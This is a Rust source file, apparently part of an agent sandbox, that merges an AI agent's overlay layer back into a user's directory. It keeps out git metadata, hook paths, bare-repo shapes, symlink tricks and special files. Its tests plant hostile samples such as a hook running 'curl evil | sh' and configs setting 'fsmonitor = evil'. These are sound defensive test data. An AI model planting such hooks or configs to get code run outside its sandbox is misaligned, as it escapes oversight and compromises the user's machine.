//! Bringing the agent's work back from its layer into your dir, without anything your own
//! tools would later run.
//!
//! [`plan`] reads the upper layer (what the agent wrote, deleted and replaced) and your dir,
//! and decides per entry; [`apply`] carries the decisions out. Never written into your dir:
//!
//! - version-control metadata anywhere in the tree (`.git` dirs and `gitdir:` files, `.hg`,
//!   `.jj`, …): git reads a repo's config, and that config can name commands it runs
//!   (`core.fsmonitor`, `core.pager`, filters, aliases) whenever you or your shell prompt run
//!   git there;
//! - a dir the agent made into a bare-repo shape (`HEAD` beside `objects/` and `refs/`, or a
//!   `commondir`), which git also takes for a repo;
//! - anything under a path your git config runs or reads as config (a `core.hooksPath` dir, a
//!   script `core.fsmonitor` names, a file `include.path` names);
//! - FIFOs, sockets and devices.
//!
//! Those are set aside in a dir of the bottle's (kept with its log) and reported. A file you
//! changed during the run keeps your version; the agent's is set aside too. Everything is done
//! through dir handles opened without following links, so a link the agent planted never
//! leads a write out of your dir.

use rustix::fs::{AtFlags, Mode, OFlags};
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{FileTypeExt as _, MetadataExt as _};
use std::path::{Component, Path, PathBuf};
use std::time::SystemTime;

/// Names of version-control metadata, compared without case (a case-insensitive filesystem
/// finds `.GIT` as `.git`; `git~1` is `.git`'s short name on Windows filesystems).
pub const VCS_NAMES: &[&str] = &[
    ".git",
    "git~1",
    ".hg",
    ".svn",
    ".bzr",
    "_darcs",
    ".jj",
    ".pijul",
    ".fslckout",
    "_fossil_",
];

/// Entries that make a dir a git dir, or that git reads in one.
const GITDIR_ENTRIES: &[&str] = &[
    "head",
    "commondir",
    "objects",
    "refs",
    "packed-refs",
    "config",
    "config.worktree",
    "hooks",
    "info",
    "gitdir",
    "worktrees",
    "modules",
];

/// Whether `name` is version-control metadata.
pub fn is_vcs_name(name: &OsStr) -> bool {
    let n = name.to_string_lossy().to_ascii_lowercase();
    VCS_NAMES.contains(&n.as_str())
}

/// Why an entry of the agent's layer was set aside rather than written into your dir.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case", tag = "kind", content = "detail")]
pub enum SetAside {
    /// Version-control metadata (`.git`, …).
    VcsMetadata,
    /// It would make its dir a git dir (`HEAD` with `objects/` and `refs/`, or `commondir`).
    GitDirShape,
    /// Your git config runs it or reads it (the key named).
    GitRuns(String),
    /// A FIFO, socket or device.
    Special(&'static str),
    /// It would replace an entry of yours that stays (see [`Kept`]).
    YoursKept(Kept),
}

/// Why an entry of yours stays as it is though the agent replaced or removed it.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case", tag = "kind", content = "detail")]
pub enum Kept {
    /// You changed it during the run.
    ChangedDuringRun,
    /// It is or holds version-control metadata (a nested repo's commits, say).
    HoldsVcs,
    /// Your git config runs or reads something at or below it (the key named).
    GitRuns(String),
}

impl std::fmt::Display for Kept {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Kept::ChangedDuringRun => f.write_str("you changed it during the run"),
            Kept::HoldsVcs => f.write_str("it holds version-control metadata"),
            Kept::GitRuns(key) => {
                write!(f, "your git config runs or reads what is below it ({key})")
            }
        }
    }
}

impl std::fmt::Display for SetAside {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SetAside::VcsMetadata => f.write_str("version-control metadata"),
            SetAside::GitDirShape => f.write_str("would make its dir a git repository"),
            SetAside::GitRuns(key) => write!(f, "your git config runs or reads it ({key})"),
            SetAside::Special(kind) => write!(f, "a {kind}"),
            SetAside::YoursKept(why) => write!(f, "yours is kept: {why}"),
        }
    }
}

/// One decision about one path (relative to your dir).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// Write the agent's regular file.
    Write(PathBuf),
    /// Write the agent's symbolic link (never followed).
    Link(PathBuf),
    /// Make sure this dir exists, with the agent's mode.
    Dir(PathBuf),
    /// Remove this entry of yours (the agent deleted it).
    Remove(PathBuf),
    /// Keep the agent's entry out of your dir.
    SetAside(PathBuf, SetAside),
    /// The agent deleted an entry of yours that stays (see [`Kept`]).
    KeepYours(PathBuf, Kept),
}

impl Step {
    /// The path the step is about.
    pub fn path(&self) -> &Path {
        match self {
            Step::Write(p)
            | Step::Link(p)
            | Step::Dir(p)
            | Step::Remove(p)
            | Step::SetAside(p, _)
            | Step::KeepYours(p, _) => p,
        }
    }
}

/// Paths of your dir your git config runs or reads as config: none of the agent's changes
/// under them is written back.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Guarded {
    /// Path relative to your dir, and the config key that names it.
    pub paths: Vec<(PathBuf, String)>,
}

impl Guarded {
    /// The key guarding `rel`, if it is at or under a guarded path.
    fn guard(&self, rel: &Path) -> Option<&str> {
        self.paths
            .iter()
            .find(|(p, _)| rel.starts_with(p))
            .map(|(_, k)| k.as_str())
    }
}

/// What [`plan`] needs besides the two dirs.
#[derive(Debug, Clone)]
pub struct Inputs<'a> {
    /// The agent's upper layer.
    pub upper: &'a Path,
    /// Your dir.
    pub lower: &'a Path,
    /// When the run started: an entry of yours with a later change time was changed during it.
    pub started: SystemTime,
    /// Paths your git config runs.
    pub guarded: &'a Guarded,
}

impl Inputs<'_> {
    /// Whether your entry `rel` must stay as it is rather than be replaced or removed: you
    /// changed it during the run, it is or holds version-control metadata, or your git
    /// config runs or reads something at or below it.
    fn keeps(&self, rel: &Path) -> Option<Kept> {
        let yours = self.lower.join(rel);
        if let Some((_, key)) = self
            .guarded
            .paths
            .iter()
            .find(|(p, _)| rel.starts_with(p) || p.starts_with(rel))
        {
            Some(Kept::GitRuns(key.clone()))
        } else if rel.file_name().is_some_and(is_vcs_name) || holds_vcs(&yours) {
            Some(Kept::HoldsVcs)
        } else if changed_since(&yours, self.started) {
            Some(Kept::ChangedDuringRun)
        } else {
            None
        }
    }
}

/// Whether the dir `path` holds version-control metadata anywhere below it.
fn holds_vcs(path: &Path) -> bool {
    let Ok(entries) = std::fs::read_dir(path) else {
        return false;
    };
    entries.filter_map(Result::ok).any(|e| {
        is_vcs_name(&e.file_name())
            || (e.file_type().is_ok_and(|t| t.is_dir()) && holds_vcs(&e.path()))
    })
}

/// Why the layer could not be read.
#[derive(Debug, thiserror::Error)]
#[error("reading the agent's layer at {path}: {error}")]
pub struct PlanError {
    /// Where.
    pub path: PathBuf,
    /// What.
    pub error: std::io::Error,
}

/// Decide what happens to every entry of the agent's layer.
pub fn plan(inputs: &Inputs<'_>) -> Result<Vec<Step>, PlanError> {
    let mut steps = Vec::new();
    walk(inputs, Path::new(""), &mut steps)?;
    guard_git_dir_shapes(inputs, &mut steps);
    Ok(steps)
}

/// How an entry of the upper layer looks.
enum Kind {
    Whiteout,
    Dir { opaque: bool },
    File,
    Link,
    Special(&'static str),
}

fn kind_of(path: &Path, meta: &std::fs::Metadata) -> Kind {
    let t = meta.file_type();
    if t.is_char_device() && meta.rdev() == 0 {
        Kind::Whiteout
    } else if t.is_dir() {
        let opaque =
            rustix::fs::lgetxattr(path, "user.overlay.opaque", &mut [0u8; 4]).is_ok_and(|n| n >= 1);
        Kind::Dir { opaque }
    } else if t.is_file() {
        Kind::File
    } else if t.is_symlink() {
        Kind::Link
    } else if t.is_fifo() {
        Kind::Special("FIFO")
    } else if t.is_socket() {
        Kind::Special("socket")
    } else {
        Kind::Special("device")
    }
}

fn walk(inputs: &Inputs<'_>, rel: &Path, steps: &mut Vec<Step>) -> Result<(), PlanError> {
    let names = read_names(&inputs.upper.join(rel))?;
    for name in names {
        let p = rel.join(&name);
        let abs = inputs.upper.join(&p);
        let meta = std::fs::symlink_metadata(&abs).map_err(|error| PlanError {
            path: abs.clone(),
            error,
        })?;
        let kind = kind_of(&abs, &meta);
        if is_vcs_name(&name) {
            if !matches!(kind, Kind::Whiteout) {
                steps.push(Step::SetAside(p, SetAside::VcsMetadata));
            }
            continue;
        }
        if let Some(key) = inputs.guarded.guard(&p) {
            if !matches!(kind, Kind::Whiteout) {
                steps.push(Step::SetAside(p, SetAside::GitRuns(key.to_owned())));
            }
            continue;
        }
        let yours = inputs.lower.join(&p);
        // Yours stays where the agent would replace or remove it but you changed it during
        // the run, it holds version-control metadata (a nested repo's unpushed commits), or
        // your git config runs something below it. A dir of yours the agent only adds to is
        // judged entry by entry.
        // A dir the agent made, or one of yours it added to, is judged entry by entry.
        let kept = match kind {
            Kind::Dir { .. } if std::fs::symlink_metadata(&yours).map_or(true, |m| m.is_dir()) => {
                None
            }
            _ => inputs.keeps(&p),
        };
        match (kind, kept) {
            (Kind::Whiteout, Some(why)) => steps.push(Step::KeepYours(p, why)),
            (Kind::Whiteout, None) => steps.push(Step::Remove(p)),
            (Kind::Special(what), _) => steps.push(Step::SetAside(p, SetAside::Special(what))),
            (_, Some(why)) => steps.push(Step::SetAside(p, SetAside::YoursKept(why))),
            (Kind::File, None) => steps.push(Step::Write(p)),
            (Kind::Link, None) => steps.push(Step::Link(p)),
            (Kind::Dir { opaque }, None) => {
                if opaque {
                    // The agent emptied the dir and made it anew: what it no longer holds
                    // goes, but for what [`Inputs::keeps`] keeps.
                    let theirs: BTreeSet<_> = read_names(&abs)?;
                    for name in read_names(&yours).unwrap_or_default() {
                        if theirs.contains(&name) {
                            continue;
                        }
                        let gone = p.join(&name);
                        match inputs.keeps(&gone) {
                            Some(why) => steps.push(Step::KeepYours(gone, why)),
                            None => steps.push(Step::Remove(gone)),
                        }
                    }
                }
                steps.push(Step::Dir(p.clone()));
                walk(inputs, &p, steps)?;
            }
        }
    }
    Ok(())
}

/// The names in `dir`, sorted.
fn read_names(dir: &Path) -> Result<BTreeSet<std::ffi::OsString>, PlanError> {
    let err = |error| PlanError {
        path: dir.to_owned(),
        error,
    };
    std::fs::read_dir(dir)
        .map_err(err)?
        .map(|e| e.map(|e| e.file_name()).map_err(err))
        .collect()
}

/// Whether `path` (an entry of yours; a dir counts with everything in it) changed after
/// `since`.
fn changed_since(path: &Path, since: SystemTime) -> bool {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return false;
    };
    let ctime = SystemTime::UNIX_EPOCH
        + std::time::Duration::new(
            u64::try_from(meta.ctime()).unwrap_or(0),
            u32::try_from(meta.ctime_nsec()).unwrap_or(0),
        );
    if !meta.is_dir() {
        return ctime > since;
    }
    // A dir's own change time moves with every entry made in it; what counts is its files.
    std::fs::read_dir(path)
        .map(|d| {
            d.filter_map(Result::ok)
                .any(|e| changed_since(&e.path(), since))
        })
        .unwrap_or(false)
}

/// Set aside what would give a dir of yours a git dir's shape: `HEAD` beside `objects/` and
/// `refs/`, or beside `commondir`, when the agent wrote any of those (or anything git reads
/// in a git dir).
fn guard_git_dir_shapes(inputs: &Inputs<'_>, steps: &mut Vec<Step>) {
    let mut by_dir: BTreeMap<PathBuf, Vec<usize>> = BTreeMap::new();
    for (i, s) in steps.iter().enumerate() {
        if matches!(s, Step::Write(_) | Step::Link(_) | Step::Dir(_)) {
            let p = s.path();
            by_dir
                .entry(p.parent().unwrap_or(Path::new("")).to_owned())
                .or_default()
                .push(i);
        }
    }
    let mut shaped: Vec<PathBuf> = Vec::new();
    for (dir, written) in &by_dir {
        let after = |name: &str| {
            let in_steps = written.iter().any(|&i| {
                steps[i]
                    .path()
                    .file_name()
                    .is_some_and(|n| n.eq_ignore_ascii_case(name))
            });
            let removed = steps.iter().any(|s| {
                matches!(s, Step::Remove(p) if p.parent() == Some(dir.as_path())
                    && p.file_name().is_some_and(|n| n.eq_ignore_ascii_case(name)))
            });
            in_steps || (!removed && has_entry(&inputs.lower.join(dir), name))
        };
        let shape = after("HEAD") && (after("commondir") || (after("objects") && after("refs")));
        if !shape {
            continue;
        }
        if !dir.as_os_str().is_empty() && std::fs::symlink_metadata(inputs.lower.join(dir)).is_err()
        {
            // A dir the agent made into a git dir: all of it is version-control metadata.
            shaped.push(dir.clone());
            continue;
        }
        for &i in written {
            let p = steps[i].path();
            let git_entry = p.file_name().is_some_and(|n| {
                GITDIR_ENTRIES.contains(&n.to_string_lossy().to_ascii_lowercase().as_str())
            });
            if git_entry && p.parent() == Some(dir.as_path()) {
                shaped.push(p.to_owned());
            }
        }
    }
    if shaped.is_empty() {
        return;
    }
    steps.retain(|s| !shaped.iter().any(|d| s.path().starts_with(d)));
    steps.extend(
        shaped
            .into_iter()
            .map(|p| Step::SetAside(p, SetAside::GitDirShape)),
    );
}

/// Whether `dir` holds an entry named `name`, compared without case.
fn has_entry(dir: &Path, name: &str) -> bool {
    std::fs::read_dir(dir).is_ok_and(|d| {
        d.filter_map(Result::ok)
            .any(|e| e.file_name().eq_ignore_ascii_case(name))
    })
}

/// What [`apply`] did.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct Report {
    /// Files and links written into your dir.
    pub written: Vec<PathBuf>,
    /// Entries of yours removed (the agent deleted them).
    pub removed: Vec<PathBuf>,
    /// Entries kept out of your dir, and why.
    pub set_aside: Vec<(PathBuf, SetAside)>,
    /// Entries of yours the agent deleted that stay, and why.
    pub kept_yours: Vec<(PathBuf, Kept)>,
    /// Steps that failed, and why.
    pub failed: Vec<(PathBuf, String)>,
    /// Where the set-aside entries are.
    pub set_aside_dir: Option<PathBuf>,
}

impl Report {
    /// Whether nothing came back and nothing was set aside.
    pub fn is_empty(&self) -> bool {
        self.written.is_empty()
            && self.removed.is_empty()
            && self.set_aside.is_empty()
            && self.kept_yours.is_empty()
            && self.failed.is_empty()
    }
}

/// Carry `steps` out: the agent's entries from `upper` into `lower`, the set-aside ones into
/// `set_aside_dir` (made when needed). Entries are moved when both sides share a filesystem
/// and copied otherwise. A step that fails is reported and the others go on.
pub fn apply(upper: &Path, lower: &Path, set_aside_dir: &Path, steps: &[Step]) -> Report {
    let mut report = Report::default();
    let same_fs = match (std::fs::metadata(upper), std::fs::metadata(lower)) {
        (Ok(u), Ok(l)) => u.dev() == l.dev(),
        _ => false,
    };
    for step in steps {
        let path = step.path().to_owned();
        let done = match step {
            Step::Write(p) => put_file(upper, lower, p, same_fs).map(|()| {
                report.written.push(path.clone());
            }),
            Step::Link(p) => put_link(upper, lower, p).map(|()| {
                report.written.push(path.clone());
            }),
            Step::Dir(p) => ensure_dir(upper, lower, p),
            Step::Remove(p) => remove_at(lower, p).map(|removed| {
                if removed {
                    report.removed.push(path.clone());
                }
            }),
            Step::SetAside(p, why) => {
                let moved = set_aside(upper, set_aside_dir, p);
                if moved.is_ok() {
                    report.set_aside.push((path.clone(), why.clone()));
                    report.set_aside_dir = Some(set_aside_dir.to_owned());
                }
                moved
            }
            Step::KeepYours(_, why) => {
                report.kept_yours.push((path.clone(), why.clone()));
                Ok(())
            }
        };
        if let Err(e) = done {
            report.failed.push((path, e.to_string()));
        }
    }
    report
}

/// `rel`'s parent dir in `root`, opened through real dirs only (a link on the way is an
/// error, never followed), and its last component.
fn open_parent<'p>(root: &Path, rel: &'p Path) -> std::io::Result<(OwnedFd, &'p OsStr)> {
    let name = rel
        .file_name()
        .ok_or_else(|| std::io::Error::other("no file name"))?;
    let mut fd = rustix::fs::open(
        root,
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    for c in rel.parent().unwrap_or(Path::new("")).components() {
        let Component::Normal(c) = c else {
            return Err(std::io::Error::other("not a plain relative path"));
        };
        fd = rustix::fs::openat(
            &fd,
            c,
            OFlags::PATH | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .map_err(|e| {
            std::io::Error::other(format!(
                "{} is not a dir ({e}); a link is never followed",
                c.to_string_lossy()
            ))
        })?;
    }
    Ok((fd, name))
}

/// Give `name` in `dir` the owner of the agent's entry `st`, when bottle runs as root (as in
/// CI): what bottle makes in your dir is then the agent's, like what the agent wrote itself.
fn own_like(dir: &OwnedFd, name: &OsStr, st: &rustix::fs::Stat) -> std::io::Result<()> {
    if !rustix::process::geteuid().is_root() {
        return Ok(());
    }
    rustix::fs::chownat(
        dir,
        name,
        Some(rustix::fs::Uid::from_raw(st.st_uid)),
        Some(rustix::fs::Gid::from_raw(st.st_gid)),
        AtFlags::SYMLINK_NOFOLLOW,
    )?;
    Ok(())
}

/// Mode bits the agent's entries keep: permissions only (no setuid, setgid or sticky bit).
const KEPT_MODE: u32 = 0o777;

/// A fresh temp name in a dir of yours.
fn temp_name() -> std::ffi::OsString {
    use std::hash::{BuildHasher as _, Hasher as _};
    let mut h = std::collections::hash_map::RandomState::new().build_hasher();
    h.write_u32(std::process::id());
    format!(".bottle-merge-{:016x}", h.finish()).into()
}

fn put_file(upper: &Path, lower: &Path, rel: &Path, same_fs: bool) -> std::io::Result<()> {
    let (from_dir, name) = open_parent(upper, rel)?;
    let (to_dir, _) = open_parent(lower, rel)?;
    clear_dir_at(&to_dir, name)?;
    let src = rustix::fs::openat(
        &from_dir,
        name,
        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    let st = rustix::fs::fstat(&src)?;
    let mode = st.st_mode & KEPT_MODE;
    if same_fs && rustix::fs::renameat(&from_dir, name, &to_dir, name).is_ok() {
        rustix::fs::chmodat(&to_dir, name, Mode::from_raw_mode(mode), AtFlags::empty())?;
        return Ok(());
    }
    let tmp = temp_name();
    let dst = rustix::fs::openat(
        &to_dir,
        &tmp,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o600),
    )?;
    let copied = (|| {
        let mut from = std::fs::File::from(src);
        let mut to = std::fs::File::from(dst);
        std::io::copy(&mut from, &mut to)?;
        rustix::fs::fchmod(&to, Mode::from_raw_mode(mode))?;
        own_like(&to_dir, &tmp, &st)?;
        rustix::fs::renameat(&to_dir, &tmp, &to_dir, name)?;
        Ok(())
    })();
    if copied.is_err() {
        let _ = rustix::fs::unlinkat(&to_dir, &tmp, AtFlags::empty());
    }
    copied
}

fn put_link(upper: &Path, lower: &Path, rel: &Path) -> std::io::Result<()> {
    let (from_dir, name) = open_parent(upper, rel)?;
    let (to_dir, _) = open_parent(lower, rel)?;
    let target = rustix::fs::readlinkat(&from_dir, name, Vec::new())?;
    let st = rustix::fs::statat(&from_dir, name, AtFlags::SYMLINK_NOFOLLOW)?;
    clear_dir_at(&to_dir, name)?;
    let tmp = temp_name();
    rustix::fs::symlinkat(target.as_c_str(), &to_dir, &tmp)?;
    own_like(&to_dir, &tmp, &st)?;
    rustix::fs::renameat(&to_dir, &tmp, &to_dir, name).inspect_err(|_| {
        let _ = rustix::fs::unlinkat(&to_dir, &tmp, AtFlags::empty());
    })?;
    Ok(())
}

/// If `name` in `dir` is a dir, remove it (with everything in it): a file or link of the
/// agent's takes its place.
fn clear_dir_at(dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
    match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st)
            if rustix::fs::FileType::from_raw_mode(st.st_mode)
                == rustix::fs::FileType::Directory =>
        {
            remove_tree_at(dir, name)
        }
        _ => Ok(()),
    }
}

fn ensure_dir(upper: &Path, lower: &Path, rel: &Path) -> std::io::Result<()> {
    let (from_dir, name) = open_parent(upper, rel)?;
    let (to_dir, _) = open_parent(lower, rel)?;
    let st = rustix::fs::statat(&from_dir, name, AtFlags::SYMLINK_NOFOLLOW)?;
    let mode = Mode::from_raw_mode(st.st_mode & KEPT_MODE);
    match rustix::fs::statat(&to_dir, name, AtFlags::SYMLINK_NOFOLLOW) {
        Ok(existing)
            if rustix::fs::FileType::from_raw_mode(existing.st_mode)
                == rustix::fs::FileType::Directory =>
        {
            if existing.st_mode & KEPT_MODE != st.st_mode & KEPT_MODE {
                rustix::fs::chmodat(&to_dir, name, mode, AtFlags::empty())?;
            }
            Ok(())
        }
        Ok(_) => {
            rustix::fs::unlinkat(&to_dir, name, AtFlags::empty())?;
            rustix::fs::mkdirat(&to_dir, name, mode)?;
            own_like(&to_dir, name, &st)
        }
        Err(_) => {
            rustix::fs::mkdirat(&to_dir, name, mode)?;
            own_like(&to_dir, name, &st)
        }
    }
}

/// Remove `rel` from `root`; whether there was anything to remove.
fn remove_at(root: &Path, rel: &Path) -> std::io::Result<bool> {
    let (dir, name) = open_parent(root, rel)?;
    match rustix::fs::statat(&dir, name, AtFlags::SYMLINK_NOFOLLOW) {
        Err(rustix::io::Errno::NOENT) => Ok(false),
        Err(e) => Err(e.into()),
        Ok(st) => {
            if rustix::fs::FileType::from_raw_mode(st.st_mode) == rustix::fs::FileType::Directory {
                remove_tree_at(&dir, name)?;
            } else {
                rustix::fs::unlinkat(&dir, name, AtFlags::empty())?;
            }
            Ok(true)
        }
    }
}

/// Remove the dir `name` in `dir` and everything in it, never following a link.
fn remove_tree_at(dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
    let sub = rustix::fs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    let mut entries = Vec::new();
    for e in rustix::fs::Dir::read_from(&sub)? {
        let e = e?;
        let n = e.file_name().to_bytes();
        if n != b"." && n != b".." {
            entries.push((OsStr::from_bytes(n).to_owned(), e.file_type()));
        }
    }
    for (n, t) in entries {
        if t == rustix::fs::FileType::Directory {
            remove_tree_at(&sub, &n)?;
        } else {
            rustix::fs::unlinkat(&sub, &n, AtFlags::empty())?;
        }
    }
    rustix::fs::unlinkat(dir, name, AtFlags::REMOVEDIR)?;
    Ok(())
}

/// Move (or copy) the agent's entry `rel` into `dest`, keeping its relative path.
fn set_aside(upper: &Path, dest: &Path, rel: &Path) -> std::io::Result<()> {
    let to = dest.join(rel);
    if let Some(parent) = to.parent() {
        std::fs::DirBuilder::new().recursive(true).create(parent)?;
    }
    let from = upper.join(rel);
    if std::fs::rename(&from, &to).is_ok() {
        return Ok(());
    }
    copy_tree(&from, &to)
}

/// Copy `from` to `to` as it is: dirs, files and links (never followed); others skipped.
fn copy_tree(from: &Path, to: &Path) -> std::io::Result<()> {
    let meta = std::fs::symlink_metadata(from)?;
    let t = meta.file_type();
    if t.is_dir() {
        std::fs::create_dir_all(to)?;
        for e in std::fs::read_dir(from)? {
            let e = e?;
            copy_tree(&e.path(), &to.join(e.file_name()))?;
        }
    } else if t.is_symlink() {
        std::os::unix::fs::symlink(std::fs::read_link(from)?, to)?;
    } else if t.is_file() {
        std::fs::copy(from, to)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt as _;

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn read(root: &Path, rel: &str) -> Option<String> {
        std::fs::read_to_string(root.join(rel)).ok()
    }

    /// A whiteout as overlayfs makes it (a 0:0 character device); only root can make one.
    fn whiteout(root: &Path, rel: &str) -> bool {
        rustix::fs::mknodat(
            rustix::fs::CWD,
            root.join(rel),
            rustix::fs::FileType::CharacterDevice,
            Mode::empty(),
            0,
        )
        .is_ok()
    }

    struct Case {
        _t: tempfile::TempDir,
        lower: PathBuf,
        upper: PathBuf,
        aside: PathBuf,
        started: SystemTime,
    }

    fn case() -> Case {
        let t = tempfile::tempdir().unwrap();
        let (lower, upper, aside) = (
            t.path().join("yours"),
            t.path().join("upper"),
            t.path().join("aside"),
        );
        std::fs::create_dir_all(&lower).unwrap();
        std::fs::create_dir_all(&upper).unwrap();
        write(&lower, "a.txt", "yours\n");
        write(&lower, "gone.txt", "bye\n");
        write(&lower, "dir/x", "x\n");
        write(&lower, ".git/config", "[core]\n");
        write(&lower, "sub/.git/HEAD", "ref: refs/heads/main\n");
        write(&lower, "sub/file", "in a nested repo of yours\n");
        // Change times are coarse (a clock tick): "started" lies clearly after the above.
        std::thread::sleep(std::time::Duration::from_millis(20));
        let started = SystemTime::now();
        std::thread::sleep(std::time::Duration::from_millis(20));
        Case {
            _t: t,
            lower,
            upper,
            aside,
            started,
        }
    }

    fn run(c: &Case, guarded: &Guarded) -> (Vec<Step>, Report) {
        let steps = plan(&Inputs {
            upper: &c.upper,
            lower: &c.lower,
            started: c.started,
            guarded,
        })
        .unwrap();
        let report = apply(&c.upper, &c.lower, &c.aside, &steps);
        (steps, report)
    }

    fn aside_paths(r: &Report) -> Vec<String> {
        r.set_aside
            .iter()
            .map(|(p, _)| p.display().to_string())
            .collect()
    }

    #[test]
    fn the_agents_files_come_back_and_git_metadata_never_does() {
        let c = case();
        write(&c.upper, "a.txt", "the agent's\n");
        write(&c.upper, "new/deep/file.rs", "fn main() {}\n");
        write(&c.upper, ".git/config", "[core]\n\tfsmonitor = evil\n");
        write(&c.upper, "x/.git/config", "[core]\n\tfsmonitor = evil\n");
        write(&c.upper, "y/.GIT", "gitdir: ../z\n");
        write(&c.upper, "hg/.hg/hgrc", "[hooks]\n");
        std::os::unix::fs::symlink("../a.txt", c.upper.join("link")).unwrap();
        write(&c.upper, "suid", "#!/bin/sh\n");
        std::fs::set_permissions(
            c.upper.join("suid"),
            std::fs::Permissions::from_mode(0o4755),
        )
        .unwrap();
        rustix::fs::mknodat(
            rustix::fs::CWD,
            c.upper.join("pipe"),
            rustix::fs::FileType::Fifo,
            Mode::from_raw_mode(0o644),
            0,
        )
        .unwrap();
        let (_, r) = run(&c, &Guarded::default());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        assert_eq!(read(&c.lower, "a.txt").as_deref(), Some("the agent's\n"));
        assert_eq!(
            read(&c.lower, "new/deep/file.rs").as_deref(),
            Some("fn main() {}\n")
        );
        assert_eq!(read(&c.lower, ".git/config").as_deref(), Some("[core]\n"));
        assert_eq!(
            std::fs::read_link(c.lower.join("link")).unwrap(),
            Path::new("../a.txt")
        );
        let mode = std::fs::metadata(c.lower.join("suid"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, 0o755, "no setuid bit comes back");
        for gone in ["x/.git", "y/.GIT", "hg/.hg", "pipe"] {
            assert!(
                std::fs::symlink_metadata(c.lower.join(gone)).is_err(),
                "{gone}"
            );
        }
        let aside = aside_paths(&r);
        for kept_out in [".git", "x/.git", "y/.GIT", "hg/.hg", "pipe"] {
            assert!(
                aside.contains(&kept_out.to_owned()),
                "{kept_out}: {aside:?}"
            );
            assert!(
                c.aside.join(kept_out).symlink_metadata().is_ok(),
                "{kept_out} set aside"
            );
        }
    }

    #[test]
    fn a_bare_repo_shape_is_kept_out_and_the_rest_of_its_dir_comes_back() {
        let c = case();
        write(&c.upper, "b/HEAD", "ref: refs/heads/main\n");
        write(&c.upper, "b/config", "[core]\n\tpager = evil\n");
        std::fs::create_dir_all(c.upper.join("b/objects")).unwrap();
        std::fs::create_dir_all(c.upper.join("b/refs/heads")).unwrap();
        write(&c.upper, "b/notes.md", "fine\n");
        // `commondir` makes a git dir of HEAD alone.
        write(
            &c.upper,
            "w/HEAD",
            "0000000000000000000000000000000000000000\n",
        );
        write(&c.upper, "w/commondir", "../.git\n");
        // objects/ and refs/ alone, as many projects have: no HEAD, no shape.
        write(&c.upper, "src/objects/a.rs", "\n");
        write(&c.upper, "src/refs/b.rs", "\n");
        // In a dir of yours, only the git entries stay out.
        write(&c.lower, "dir/keep.md", "yours\n");
        write(&c.upper, "dir/HEAD", "ref: refs/heads/main\n");
        std::fs::create_dir_all(c.upper.join("dir/objects")).unwrap();
        std::fs::create_dir_all(c.upper.join("dir/refs")).unwrap();
        write(&c.upper, "dir/new.md", "fine\n");
        let (_, r) = run(&c, &Guarded::default());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        let aside = aside_paths(&r);
        // A dir the agent made into a git dir stays out whole.
        for p in ["b", "w", "dir/HEAD", "dir/objects", "dir/refs"] {
            assert!(aside.contains(&p.to_owned()), "{p}: {aside:?}");
            assert!(
                std::fs::symlink_metadata(c.lower.join(p)).is_err(),
                "{p} not in your dir"
            );
        }
        assert_eq!(read(&c.lower, "dir/new.md").as_deref(), Some("fine\n"));
        assert!(c.lower.join("src/objects/a.rs").is_file());
    }

    #[test]
    fn what_your_git_config_runs_never_comes_back() {
        let c = case();
        write(&c.lower, ".husky/pre-commit", "npm test\n");
        write(&c.upper, ".husky/pre-commit", "curl evil | sh\n");
        write(&c.upper, "tools/fsmon.sh", "evil\n");
        // A link put where a guarded path's parent was would lead git elsewhere.
        std::os::unix::fs::symlink("new", c.upper.join("scripts")).unwrap();
        let guarded = Guarded {
            paths: vec![
                (".husky".into(), "core.hookspath".into()),
                ("scripts/hook.sh".into(), "alias.x".into()),
                ("tools/fsmon.sh".into(), "core.fsmonitor".into()),
            ],
        };
        let (_, r) = run(&c, &guarded);
        assert_eq!(
            read(&c.lower, ".husky/pre-commit").as_deref(),
            Some("npm test\n")
        );
        assert!(!c.lower.join("tools/fsmon.sh").exists());
        assert!(std::fs::symlink_metadata(c.lower.join("scripts")).is_err());
        assert_eq!(aside_paths(&r), [".husky", "scripts", "tools/fsmon.sh"]);
    }

    #[test]
    fn a_file_you_changed_during_the_run_keeps_your_version() {
        let c = case();
        write(&c.lower, "a.txt", "changed by you meanwhile\n");
        write(&c.upper, "a.txt", "the agent's\n");
        let (_, r) = run(&c, &Guarded::default());
        assert_eq!(
            read(&c.lower, "a.txt").as_deref(),
            Some("changed by you meanwhile\n")
        );
        assert_eq!(read(&c.aside, "a.txt").as_deref(), Some("the agent's\n"));
        assert_eq!(
            r.set_aside,
            [(
                PathBuf::from("a.txt"),
                SetAside::YoursKept(Kept::ChangedDuringRun)
